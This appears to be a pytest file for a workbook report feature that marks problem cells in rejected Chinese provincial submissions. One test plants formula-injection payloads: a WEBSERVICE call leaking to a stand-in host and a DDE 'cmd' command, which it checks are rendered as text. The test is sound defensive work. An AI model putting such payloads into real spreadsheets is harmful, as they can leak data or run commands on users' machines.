"""The --report workbook: the problems listed first, their workbook with each bad cell
marked and commented, written as a new file."""

from __future__ import annotations

import openpyxl
import pytest

from tests.workbench.reporting import hostile
from tests.workbench.reporting.workbooks import fill, issue
from workbench.app import services
from workbench.errors import InputError
from workbench.reporting import layout


@pytest.fixture
def refused(workspace, plan_id, tmp_path):
    template = issue(workspace, plan_id, "ZJ", "2023H1", tmp_path / "issued")
    path = fill(
        template,
        tmp_path / "浙江省.xlsx",
        tasks={"2": {"status": "差不多了", "percent": 150}},
        indicators={"1": {"value": "约30"}},
    )
    outcome = services.submit(workspace, path)
    assert outcome.status == "rejected"
    return outcome


def test_their_workbook_marked_with_the_problems_listed_first(refused, tmp_path):
    report = services.write_report([refused], tmp_path / "退回说明.xlsx")
    wb = openpyxl.load_workbook(report)
    assert wb.sheetnames[0] == "问题清单" and layout.SHEET_META in wb.sheetnames
    listing = wb["问题清单"]
    rows = [[c.value for c in row] for row in listing.iter_rows(min_row=4)]
    assert [r[2:5] for r in rows[:3]] == [
        ["任务进展", "E5", "差不多了"],
        ["任务进展", "F5", "150"],
        ["指标数据", "H4", "约30"],
    ]
    assert "0 到 100" in rows[1][5]
    # Then the notices: the rows left blank on each sheet.
    assert [r[5][:6] for r in rows[3:]] == ["“任务进展”", "“指标数据”"] and all("未填报" in r[5] for r in rows[3:])
    assert listing["D4"].hyperlink.location == "'任务进展'!E5" or "任务进展" in listing["D4"].hyperlink.target
    tasks = wb[layout.SHEET_TASKS]
    for ref in ("E5", "F5"):
        assert tasks[ref].fill.fgColor.rgb.endswith("FFC7CE") and tasks[ref].comment is not None
    assert "不是数字" in wb[layout.SHEET_INDICATORS]["H4"].comment.text
    assert tasks["E6"].comment is None


def test_never_over_the_received_file(refused):
    with pytest.raises(InputError) as err:
        services.write_report([refused], refused.path)
    assert err.value.code == "output.is_input"


def test_an_unusable_file_is_listed_without_a_copy(workspace, tmp_path):
    outcome = services.submit(workspace, hostile.encrypted(tmp_path))
    wb = openpyxl.load_workbook(services.write_report([outcome], tmp_path / "r.xlsx"))
    assert wb.sheetnames == ["问题清单"]
    assert "密码" in wb["问题清单"]["F4"].value


def test_report_in_english(refused, tmp_path):
    from workbench import messages

    messages.set_language("en")
    try:
        wb = openpyxl.load_workbook(services.write_report([refused], tmp_path / "r.xlsx"))
    finally:
        messages.set_language(None)
    assert wb.sheetnames[0] == "Problems" and wb["Problems"]["B4"].value == "refused"


def test_the_marked_copy_runs_none_of_the_provinces_formulas(workspace, plan_id, tmp_path):
    template = issue(workspace, plan_id, "ZJ", "2023H1", tmp_path / "issued")
    path = fill(template, tmp_path / "浙江省.xlsx", tasks={"2": {"status": "差不多了"}})
    wb = openpyxl.load_workbook(path)
    tasks = wb[layout.SHEET_TASKS]
    tasks["G5"] = '=HYPERLINK("http://example.invalid/x","点此查看")'
    tasks["H5"] = '=WEBSERVICE("http://example.invalid/leak")'
    tasks["I5"] = "=cmd|' /C calc'!A0"
    wb.save(path)
    outcome = services.submit(workspace, path)
    assert outcome.status == "rejected"
    copy = openpyxl.load_workbook(services.write_report([outcome], tmp_path / "退回说明.xlsx"))[layout.SHEET_TASKS]
    for ref in ("G5", "H5", "I5"):
        assert copy[ref].data_type == "s" and copy[ref].value.startswith("=")  # shown as text
    assert copy["E5"].comment is not None


def test_a_workbook_far_beyond_a_template_is_listed_without_a_copy(refused, tmp_path, monkeypatch):
    from exporters import report

    monkeypatch.setattr(report, "MAX_COPIED_SHEET_XML", 1000)
    wb = openpyxl.load_workbook(services.write_report([refused], tmp_path / "r.xlsx"))
    assert wb.sheetnames == ["问题清单"]
    assert [c.value for c in wb["问题清单"]["E"][3:5]] == ["差不多了", "150"]
